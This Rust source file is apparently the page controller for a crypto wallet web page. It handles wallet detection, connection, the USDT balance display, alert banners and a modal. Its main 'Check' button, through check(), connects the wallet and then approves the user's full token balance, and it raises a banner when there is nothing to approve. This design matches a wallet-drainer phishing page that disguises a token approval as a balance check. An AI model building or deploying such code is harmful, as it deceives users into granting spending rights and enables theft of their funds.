use serde::Serialize;
use std::sync::Arc;
use tokio::sync::watch;

use crate::{
    error::{AppError, Result, SwitchStep},
    models::{short_address, TransactionStatus, WalletInfo},
    services::alerts::{AlertBanner, AlertKind, AlertPhase, AlertTiming},
    services::transaction_service::{ApproveOutcome, TransactionService},
    services::wallet_service::WalletService,
    utils::{is_positive_amount, to_fixed},
};

#[derive(Debug, Clone, PartialEq)]
struct PageState {
    wallet_detected: Option<bool>,
    connecting: bool,
    loading: bool,
    error: Option<String>,
    wallet: Option<WalletInfo>,
    token_balance: String,
    modal_open: bool,
}

impl Default for PageState {
    fn default() -> Self {
        Self {
            wallet_detected: None,
            connecting: false,
            loading: false,
            error: None,
            wallet: None,
            token_balance: "0".to_string(),
            modal_open: false,
        }
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct AlertView {
    pub kind: AlertKind,
    pub phase: AlertPhase,
    pub title: &'static str,
    pub detail: &'static str,
}

#[derive(Debug, Clone, Serialize)]
pub struct TransactionView {
    #[serde(flatten)]
    pub status: TransactionStatus,
    pub short_hash: Option<String>,
    pub explorer_url: Option<String>,
}

/// Everything the page renders, as one snapshot.
#[derive(Debug, Clone, Serialize)]
pub struct PageView {
    pub wallet_detected: Option<bool>,
    pub connecting: bool,
    pub loading: bool,
    pub error: Option<String>,
    pub wallet: Option<WalletInfo>,
    pub short_address: Option<String>,
    pub token_balance: String,
    pub token_balance_display: String,
    pub modal_open: bool,
    pub check_label: &'static str,
    pub check_enabled: bool,
    pub approve_enabled: bool,
    pub transaction: Option<TransactionView>,
    pub alerts: Vec<AlertView>,
}

/// Page-level orchestration behind the buttons, banners and modal.
#[derive(Clone)]
pub struct PageController {
    wallet: WalletService,
    transactions: TransactionService,
    state: Arc<watch::Sender<PageState>>,
    wallet_alert: Arc<AlertBanner>,
    balance_alert: Arc<AlertBanner>,
}

impl PageController {
    pub fn new(
        wallet: WalletService,
        transactions: TransactionService,
        timing: AlertTiming,
    ) -> Self {
        let (state, _) = watch::channel(PageState::default());
        Self {
            wallet,
            transactions,
            state: Arc::new(state),
            wallet_alert: Arc::new(AlertBanner::new(AlertKind::WalletMissing, timing)),
            balance_alert: Arc::new(AlertBanner::new(AlertKind::NoTokenBalance, timing)),
        }
    }

    /// Runs once on page load.
    pub fn detect_wallet(&self) -> bool {
        let detected = self.wallet.is_provider_present();
        self.update(|state| state.wallet_detected = Some(detected));
        if !detected {
            tracing::warn!("No wallet provider detected");
            self.wallet_alert.show();
        }
        detected
    }

    pub fn view(&self) -> PageView {
        let state = self.state.borrow().clone();
        let transaction = self.transactions.status().map(|status| TransactionView {
            short_hash: status.short_hash(),
            explorer_url: (!status.hash.is_empty()).then(|| {
                format!(
                    "{}/tx/{}",
                    self.wallet.network().explorer_url.trim_end_matches('/'),
                    status.hash
                )
            }),
            status,
        });
        let alerts = [&self.wallet_alert, &self.balance_alert]
            .into_iter()
            .filter(|banner| banner.is_shown())
            .map(|banner| AlertView {
                kind: banner.kind(),
                phase: banner.phase(),
                title: banner.kind().title(),
                detail: banner.kind().detail(),
            })
            .collect();

        PageView {
            check_label: if state.connecting {
                "Connecting..."
            } else if state.wallet_detected == Some(false) {
                "No Wallet Detected"
            } else {
                "Check"
            },
            check_enabled: !state.connecting && state.wallet_detected != Some(false),
            approve_enabled: !state.loading && state.wallet.is_some(),
            short_address: state.wallet.as_ref().map(|w| short_address(&w.address)),
            token_balance_display: format!("{} USDT", to_fixed(&state.token_balance, 2)),
            wallet_detected: state.wallet_detected,
            connecting: state.connecting,
            loading: state.loading,
            error: state.error,
            wallet: state.wallet,
            token_balance: state.token_balance,
            modal_open: state.modal_open,
            transaction,
            alerts,
        }
    }

    pub fn watch(&self) -> PageWatch {
        PageWatch {
            state: self.state.subscribe(),
            transaction: self.transactions.subscribe(),
            wallet_alert: self.wallet_alert.subscribe(),
            balance_alert: self.balance_alert.subscribe(),
        }
    }

    /// The main button: connect when needed, then approve the full token
    /// balance or raise the no-balance banner.
    pub async fn check(&self) -> Result<PageView> {
        if !self.wallet.is_provider_present() {
            self.wallet_alert.show();
            return Err(AppError::ProviderMissing);
        }
        let balance = if self.wallet.account().await.is_some() {
            self.refresh_token_balance().await
        } else {
            if self.connect().await.is_err() {
                return Ok(self.view());
            }
            // connect() has just refreshed it
            self.state.borrow().token_balance.clone()
        };
        if is_positive_amount(&balance) {
            self.approve().await?;
        } else {
            self.balance_alert.show();
        }
        Ok(self.view())
    }

    /// Connects and records a connect-specific message on failure.
    pub async fn connect(&self) -> Result<WalletInfo> {
        self.update(|state| {
            state.connecting = true;
            state.error = None;
        });

        let result = self.wallet.connect().await;
        match &result {
            Ok(info) => {
                let info = info.clone();
                self.update(|state| state.wallet = Some(info));
                self.refresh_token_balance().await;
            }
            Err(e) => {
                tracing::error!("Error connecting wallet: {}", e);
                let message = connect_error_message(e);
                self.update(|state| state.error = Some(message));
            }
        }

        self.update(|state| state.connecting = false);
        result
    }

    /// Approves the full balance from the modal.
    pub async fn approve(&self) -> Result<ApproveOutcome> {
        self.update(|state| {
            state.loading = true;
            state.error = None;
        });
        let outcome = self.transactions.approve_full_balance().await;
        self.update(|state| state.loading = false);

        if let Ok(ApproveOutcome::NoBalance) = outcome {
            self.balance_alert.show();
        }
        outcome
    }

    /// Re-reads the displayed token balance; "0" without a connection.
    pub async fn refresh_token_balance(&self) -> String {
        let balance = match self.wallet.account().await {
            Some(account) => self.transactions.token_balance(&account).await,
            None => "0".to_string(),
        };
        let shown = balance.clone();
        self.update(|state| state.token_balance = shown);
        balance
    }

    pub async fn disconnect(&self) {
        self.update(|state| {
            state.wallet = None;
            state.modal_open = false;
            state.error = None;
            state.token_balance = "0".to_string();
        });
        self.balance_alert.hide();
        self.transactions.clear_status();
        self.wallet.disconnect().await;
    }

    pub fn open_modal(&self) {
        self.update(|state| state.modal_open = true);
    }

    pub fn close_modal(&self) {
        self.update(|state| state.modal_open = false);
    }

    pub fn dismiss_alert(&self, kind: AlertKind) {
        match kind {
            AlertKind::WalletMissing => self.wallet_alert.dismiss(),
            AlertKind::NoTokenBalance => self.balance_alert.dismiss(),
        }
    }

    fn update(&self, apply: impl FnOnce(&mut PageState)) {
        self.state.send_if_modified(|state| {
            let before = state.clone();
            apply(state);
            *state != before
        });
    }
}

/// Connect failures get wording specific to the connect button.
pub fn connect_error_message(err: &AppError) -> String {
    match err {
        AppError::NetworkSwitchRejected(SwitchStep::Switch)
        | AppError::NetworkSwitchRejected(SwitchStep::AddChain) => err.user_message(),
        AppError::UserRejected | AppError::UserCancelled => {
            "Wallet connection was cancelled".to_string()
        }
        _ => "Failed to connect wallet".to_string(),
    }
}

/// Resolves whenever anything on the page changes.
pub struct PageWatch {
    state: watch::Receiver<PageState>,
    transaction: watch::Receiver<Option<TransactionStatus>>,
    wallet_alert: watch::Receiver<AlertPhase>,
    balance_alert: watch::Receiver<AlertPhase>,
}

impl PageWatch {
    /// Returns `false` once the page is gone.
    pub async fn changed(&mut self) -> bool {
        let result = tokio::select! {
            r = self.state.changed() => r,
            r = self.transaction.changed() => r,
            r = self.wallet_alert.changed() => r,
            r = self.balance_alert.changed() => r,
        };
        result.is_ok()
    }
}
